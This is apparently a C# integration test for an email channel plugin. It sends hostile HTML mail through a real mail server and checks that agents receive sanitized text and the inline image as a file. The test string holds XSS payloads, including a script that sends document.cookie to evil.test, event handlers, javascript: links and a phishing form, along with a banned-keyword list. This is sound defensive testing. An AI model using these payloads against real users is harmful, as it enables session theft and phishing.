using System.Net;
using ContactCenter.Plugins.Channels.Email.Tests.Support;
using ContactCenter.Plugins.Channels.WebChat.Tests.Support;
using MimeKit;

namespace ContactCenter.Plugins.Channels.Email.Tests.Host;

/// <summary>
/// Hostile HTML mail through the real Postfix and Dovecot into the real host: what the agent reads over the API is
/// plain text with none of the markup, scripts, handlers, dangerous links or remote images, and the image the mail
/// shows inline (<c>cid:</c>) is there as a file with the same bytes.
/// </summary>
[Collection(EmailHostCollection.Name)]
public sealed class EmailHtmlSafetyTests(EmailHostFixture fixture)
{
    private const string Hostile = """
        <html><head><title>t</title><meta http-equiv="refresh" content="0;url=https://evil.test"><style>*{x:expression(alert(1))}</style></head>
        <body onload="alert(2)"><script>fetch('https://evil.test/?c='+document.cookie)</script>
        <p onclick="alert(3)" style="background:url(javascript:alert(4))">Hola, les escribo por el choque.</p>
        <p>Mire el golpe: <img src="cid:golpe@cliente.test" alt="Foto del golpe" onerror="alert(5)"></p>
        <img src="https://tracker.test/pixel.gif?u=dario" width="1" height="1">
        <a href="javascript:alert(6)">Ver póliza</a> <a href="https://aseguradora.test/poliza">Mi póliza</a>
        <form action="https://evil.test/login"><input type="password" name="pwd"><button>Entrar</button></form>
        <iframe src="https://evil.test/frame"></iframe><svg onload="alert(7)"><script>alert(8)</script></svg>
        </body></html>
        """;

    [Fact]
    public async Task HostileHtmlMail_AgentReadsSafeText_AndTheInlineImageAsAFile()
    {
        using var client = fixture.Host.CreateAdminClient();
        var desk = new AgentDesk(client);
        var before = await desk.ConversationIdsAsync();
        byte[] png = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0, 0x1F, 0x15, 0xC4, 0x89];
        var mail = Mails.FromCustomer("dario", "HTML hostil", "");
        var body = new BodyBuilder { HtmlBody = Hostile };
        var image = body.LinkedResources.Add("golpe.png", png, new ContentType("image", "png"));
        image.ContentId = "golpe@cliente.test";
        mail.Body = body.ToMessageBody();

        await fixture.Mail.SendAsync(mail);

        var conversationId = await EmailConversationTests.WaitForNewConversationAsync(desk, before);
        try
        {
            var message = Assert.Single((await desk.GetAsync($"/api/v1/conversations/{conversationId}/messages")).EnumerateArray());
            var text = message.GetProperty("text").GetString()!;
            Assert.Contains("Hola, les escribo por el choque.", text, StringComparison.Ordinal);
            Assert.Contains("Mire el golpe: [imagen / image: Foto del golpe]", text, StringComparison.Ordinal);
            Assert.Contains("Mi póliza [https://aseguradora.test/poliza]", text, StringComparison.Ordinal);
            foreach (var banned in new[] { "<", ">", "script", "alert", "javascript", "onload", "onerror", "expression", "evil.test", "tracker.test", "cookie", "pwd" })
            {
                Assert.DoesNotContain(banned, text, StringComparison.OrdinalIgnoreCase);
            }

            var attachment = Assert.Single(message.GetProperty("attachments").EnumerateArray());
            Assert.Equal(("image/png", png.Length), (attachment.GetProperty("contentType").GetString(), attachment.GetProperty("length").GetInt32()));
            using var download = await client.GetAsync(new Uri($"/api/v1/conversations/{conversationId}/attachments/{attachment.GetProperty("id").GetString()}", UriKind.Relative));
            Assert.Equal(HttpStatusCode.OK, download.StatusCode);
            Assert.Equal(png, await download.Content.ReadAsByteArrayAsync());
        }
        finally
        {
            await desk.CloseAsync(conversationId);
        }
    }
}
